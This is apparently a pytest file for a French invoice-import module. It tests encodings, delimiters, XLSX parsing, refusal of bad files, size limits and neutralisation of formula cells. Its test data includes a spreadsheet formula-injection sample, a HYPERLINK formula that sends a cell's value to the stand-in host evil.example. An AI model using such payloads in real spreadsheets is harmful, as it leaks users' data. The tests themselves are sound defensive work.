"""Reading uploaded files: encodings, delimiters, XLSX, and bad files refused clearly."""

from __future__ import annotations

import io
from datetime import date, datetime

import pytest
from openpyxl import Workbook
from sqlalchemy import func
from sqlmodel import select

from case_core.imports.invoices import (
    import_invoices,
    locate_header,
    recognise_headers,
    rejected_rows_csv,
)
from case_core.imports.tabular import read_table, safe_cell
from case_core.kernel.actor import Actor
from case_core.kernel.db import read_session
from case_core.kernel.errors import ValidationError
from case_core.models import Case, Claim, Party
from tests.import_helpers import HEADERS, good_row, make_creditor

TRICKY = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
    'Dupont & Fils <SARL> "l\'Atelier"',
    "Boulangerie 🥖 Chez Zoé",
    "شركة الأمل",
    "+33 malin",
    "@SOMME(A1)",
]


def _rows(n: int = 3) -> list[list[str]]:
    return [good_row(i, debtors=n) for i in range(n)]


def test_windows_1252_file_with_accents() -> None:
    rows = _rows()
    rows[0][HEADERS.index("Raison sociale")] = "Société Générale d'Éléments Œuvrés"
    text = "\r\n".join(";".join(r) for r in [HEADERS, *rows]) + "\r\n"
    table = read_table(text.encode("cp1252"), "export.csv")
    assert table.encoding == "Windows-1252"
    assert table.headers == HEADERS
    assert table.rows[0].cells[4] == "Société Générale d'Éléments Œuvrés"
    assert [r.number for r in table.rows] == [2, 3, 4]


@pytest.mark.parametrize("sep", [";", "\t", ",", "|"])
def test_any_common_delimiter(sep: str) -> None:
    rows = _rows()
    # A comma inside an amount must be quoted when the comma is the separator.
    quoted = [[f'"{c}"' if sep in c or "," in c else c for c in r] for r in rows]
    data = ("\ufeff" + "\n".join(sep.join(r) for r in [HEADERS, *quoted]) + "\n").encode("utf-8")
    table = read_table(data, "f.csv")
    assert table.delimiter == sep
    assert table.headers == HEADERS
    assert [r.cells for r in table.rows] == rows


def test_xlsx_cells_read_as_typed() -> None:
    wb = Workbook()
    ws = wb.active
    ws.append(HEADERS)
    row = good_row(1)
    row[HEADERS.index("Raison sociale")] = TRICKY[0]
    ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    table = read_table(out.getvalue(), "factures.xlsx")
    assert table.file_format == "xlsx"
    assert table.headers == HEADERS
    assert table.rows[0].number == 2
    # The formula is read as the text typed, never evaluated.
    assert table.rows[0].cells[HEADERS.index("Raison sociale")] == TRICKY[0]


@pytest.mark.parametrize(
    ("data", "filename", "message"),
    [
        (b"", "vide.csv", "vide"),
        (b"\xef\xbb\xbf\r\n  \r\n", "vide.csv", "vide"),
        (b"%PDF-1.7\n\x00\x01\x02\x03binary", "facture.csv", "binaire"),
        (bytes(range(256)) * 4, "photo.csv", "binaire"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64, "ancien.xls", "97-2003"),
        (b"PK\x03\x04 not really a zip", "f.xlsx", "XLSX illisible"),
        ('N° facture;Montant\nF1;"12,50\nF2;13\n'.encode(), "f.csv", "guillemet"),
    ],
)
def test_bad_files_are_refused_clearly(data: bytes, filename: str, message: str) -> None:
    with pytest.raises(ValidationError) as caught:
        read_table(data, filename)
    assert message in caught.value.message


def test_oversized_file_is_refused_before_reading() -> None:
    data = b"a;b\n" + b"1;2\n" * 1000
    with pytest.raises(ValidationError) as caught:
        read_table(data, "gros.csv", max_bytes=1000)
    assert "limite" in caught.value.message and "Mo" in caught.value.message


def test_formula_cells_are_neutralised_on_export() -> None:
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("@SOMME(A1)") == "'@SOMME(A1)"
    assert safe_cell("Dupont") == "Dupont"


def test_tricky_text_is_imported_exactly_and_exported_safely(admin: Actor) -> None:
    creditor_id = make_creditor(admin)
    rows = _rows(len(TRICKY))
    for i, name in enumerate(TRICKY):
        rows[i][HEADERS.index("Raison sociale")] = name
    rows[0][HEADERS.index("Montant TTC")] = "pas un montant"
    data = (
        "\n".join(";".join('"' + c.replace('"', '""') + '"' for c in r) for r in [HEADERS, *rows])
        + "\n"
    ).encode("utf-8")
    table = read_table(data, "f.csv")
    report = import_invoices(admin, creditor_id, table, recognise_headers(table.headers))
    assert (report.created, report.rejected) == (len(TRICKY) - 1, 1)
    with read_session() as session:
        names = set(session.exec(select(Party.display_name)).all())
    assert {n for n in TRICKY[1:]} <= names
    exported = read_table(rejected_rows_csv(table, report.errors), "rejets.csv")
    assert exported.headers[:3] == ["Ligne", "Colonne", "Motif"]
    (line,) = exported.rows
    assert line.cells[:2] == ["2", "Montant TTC"]
    # In the downloadable file the formula is neutralised; the rest is as typed.
    assert line.cells[3 + HEADERS.index("Raison sociale")] == "'" + TRICKY[0]


def test_bad_file_imports_nothing(admin: Actor) -> None:
    make_creditor(admin)
    with pytest.raises(ValidationError):
        read_table(b"\x00\x01\x02", "f.csv")
    with read_session() as session:
        assert session.exec(select(func.count()).select_from(Claim)).one() == 0
        assert session.exec(select(func.count()).select_from(Case)).one() == 0


def test_formula_debtor_name_round_trip_through_xlsx_export(admin: Actor) -> None:
    creditor_id = make_creditor(admin)
    rows = _rows(2)
    rows[0][HEADERS.index("Raison sociale")] = TRICKY[0]
    rows[1][HEADERS.index("SIREN")] = "000000001"
    wb = Workbook()
    ws = wb.active
    ws.append(HEADERS)
    for r in rows:
        ws.append(r)
    out = io.BytesIO()
    wb.save(out)
    table = read_table(out.getvalue(), "f.xlsx")
    report = import_invoices(admin, creditor_id, table, recognise_headers(table.headers))
    assert (report.created, report.rejected) == (1, 1)
    assert report.errors[0].row == 3 and report.errors[0].column == "SIREN"
    with read_session() as session:
        assert TRICKY[0] in session.exec(select(Party.display_name)).all()


def test_xlsx_with_real_dates_and_numbers(admin: Actor) -> None:
    creditor_id = make_creditor(admin)
    wb = Workbook()
    ws = wb.active
    ws.append(["Invoice number", "Invoice date", "Due date", "Amount", "Company", "SIREN"])
    ws.append(["INV-1", datetime(2026, 1, 5), datetime(2026, 2, 4), 1234.5, "Zed SARL", 552100554])
    ws.append(["INV-2", date(2026, 1, 6), date(2026, 2, 5), 80, "Zed SARL", 552100554])
    out = io.BytesIO()
    wb.save(out)
    table = read_table(out.getvalue(), "export.xlsx")
    report = import_invoices(admin, creditor_id, table, recognise_headers(table.headers))
    assert (report.created, report.rejected, report.cases_created) == (2, 0, 1), report.errors
    with read_session() as session:
        claims = {c.invoice_number: c for c in session.exec(select(Claim)).all()}
    assert claims["INV-1"].principal_cents == 1234_50
    assert claims["INV-1"].due_date == date(2026, 2, 4)
    assert claims["INV-2"].principal_cents == 80_00


def test_size_limit_comes_from_the_configuration(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CASEDESK_MAX_IMPORT_MB", "1")
    big = b"a;b\n" + b"1;2\n" * (300 * 1024)  # 1,2 Mo
    with pytest.raises(ValidationError) as caught:
        read_table(big, "gros.csv")
    assert caught.value.message.startswith("Le fichier fait 1,2 Mo : la limite est de 1,0 Mo.")
    monkeypatch.setenv("CASEDESK_MAX_IMPORT_MB", "2")
    assert len(read_table(big, "gros.csv").rows) == 300 * 1024


def test_title_lines_above_the_header_are_skipped(admin: Actor) -> None:
    creditor_id = make_creditor(admin)
    rows = _rows(3)
    rows[1][HEADERS.index("Montant TTC")] = "?"
    text = (
        "Export des impayés au 12/03/2026\n\n"
        + "\n".join(";".join(r) for r in [HEADERS, *rows])
        + "\n"
    )
    table = locate_header(read_table(text.encode(), "f.csv"))
    assert table.headers == HEADERS and table.header_row == 3
    report = import_invoices(admin, creditor_id, table, recognise_headers(table.headers))
    assert report.created == 2
    assert [(e.row, e.column) for e in report.errors] == [(5, "Montant TTC")]
